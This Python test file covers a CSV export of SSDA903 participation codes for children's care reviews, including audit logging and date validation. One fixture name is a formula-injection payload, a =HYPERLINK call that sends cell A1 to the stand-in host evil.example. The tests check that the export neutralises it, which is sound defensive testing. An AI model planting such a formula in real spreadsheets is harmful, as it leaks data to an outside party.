"""The participation codes for the SSDA903 return: every review held in the range, with the code
the IRO confirmed (empty until then); a CSV every formula in which is made harmless."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from sqlalchemy import select

from participation import clock
from participation.admin.exports import financial_year
from participation.models import (
    AuditEvent,
    ParticipationCode,
    ReviewOutcome,
    ReviewStatus,
    Role,
    utcnow,
)
from tests.support import factories

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _held(session, child, number, day, code=None, confirmed=True):
    review = factories.make_review(
        session, child, number, due_on=day, status=ReviewStatus.HELD, held_on=day
    )
    if code is not None:
        session.add(
            ReviewOutcome(
                review_id=review.id,
                code=code,
                suggested_code=code,
                confirmed_at=utcnow() if confirmed else None,
            )
        )
    return review


@pytest.fixture
def reviews(session, homes):
    mia = factories.make_child(
        session,
        home=homes["oak"],
        legal_name="Amelia Rose Thompson",
        preferred_name="Mia",
        date_of_birth=date(2020, 3, 14),
    )
    evil = factories.make_child(
        session,
        home=homes["oak"],
        legal_name=EVIL,
        preferred_name="Eve",
        date_of_birth=date(2012, 1, 2),
    )
    _held(session, mia, 1, date(2026, 4, 20), ParticipationCode.PN1)
    _held(session, mia, 2, date(2026, 7, 20))  # no outcome recorded yet
    _held(session, evil, 1, date(2026, 5, 5), ParticipationCode.PN5)
    # A code suggested but not confirmed by the IRO is not reported.
    _held(session, evil, 2, date(2026, 8, 5), ParticipationCode.PN7, confirmed=False)
    _held(session, evil, 3, date(2026, 3, 31), ParticipationCode.PN2)  # before the range
    factories.make_review(session, mia, 3, due_on=date(2026, 9, 1))  # planned, not held
    session.commit()
    return {"mia": mia, "evil": evil}


def _rows(response) -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


URL = "/admin/exports/participation-codes.csv?start=2026-04-01&end=2026-12-31"


def test_the_csv_has_each_review_held_in_the_range_with_its_confirmed_code(admin, session, reviews):
    response = admin.get(URL)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=participation-codes-2026-04-01-to-2026-12-31.csv"
    )
    assert response.headers["Cache-Control"] == "no-store"
    mia, evil = reviews["mia"].public_id, reviews["evil"].public_id
    rows = _rows(response)
    assert rows[0] == [
        "child_reference",
        "legal_name",
        "date_of_birth",
        "review_date",
        "participation_code",
    ]
    body = [[_plain(row[0]), *row[1:]] for row in rows[1:]]
    assert body == [
        [mia, "Amelia Rose Thompson", "2020-03-14", "2026-04-20", "PN1"],
        [evil, "'" + EVIL, "2012-01-02", "2026-05-05", "PN5"],
        [mia, "Amelia Rose Thompson", "2020-03-14", "2026-07-20", ""],
        [evil, "'" + EVIL, "2012-01-02", "2026-08-05", ""],
    ]


def _plain(reference: str) -> str:
    # A public id may start with "-": like any such cell it is written with an apostrophe.
    return reference[1:] if reference.startswith("'-") else reference


def test_a_formula_in_a_name_reaches_the_spreadsheet_as_text(admin, reviews):
    text = admin.get(URL).get_data(as_text=True)
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"' in text
    for row in _rows(admin.get(URL)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_download_is_audited_without_its_content(admin, session, reviews):
    admin.get(URL)
    event = session.scalar(
        select(AuditEvent).where(AuditEvent.action == "admin-export-participation-codes")
    )
    assert event.detail == "from=2026-04-01 to=2026-12-31 rows=4"
    assert "Amelia" not in event.detail


def test_the_page_shows_the_reviews_and_says_which_have_no_code(admin, reviews):
    page = admin.get("/admin/exports/participation-codes?start=2026-04-01&end=2026-12-31").text
    assert "4 reviews held." in page
    assert "2 of them have no code yet" in page
    assert "Not confirmed yet" in page
    assert (
        'href="/admin/exports/participation-codes.csv?start=2026-04-01&amp;end=2026-12-31"' in page
    )


def test_the_page_starts_with_the_return_year_so_far(admin):
    start, end = financial_year(clock.today())
    page = admin.get("/admin/exports/participation-codes").text
    assert f'value="{start.isoformat()}"' in page and f'value="{end.isoformat()}"' in page
    assert financial_year(date(2027, 3, 31)) == (date(2026, 4, 1), date(2027, 3, 31))
    assert financial_year(date(2026, 4, 1)) == (date(2026, 4, 1), date(2026, 4, 1))


def test_a_range_that_is_not_one_is_said_so(admin, reviews):
    page = admin.get("/admin/exports/participation-codes?start=2026-12-31&end=2026-04-01").text
    assert "The &#39;up to&#39; date must be on or after the &#39;from&#39; date" in page
    page = admin.get("/admin/exports/participation-codes?start=soon&end=").text
    assert "must be a real date" in page and "Enter the last day of the range" in page
    response = admin.get("/admin/exports/participation-codes.csv?start=x&end=2026-01-01")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/admin/exports/participation-codes?")


def test_a_manager_downloads_the_codes(client, auth, people, reviews):
    auth.sign_in(people[Role.MANAGER])
    assert len(_rows(client.get(URL))) == 5
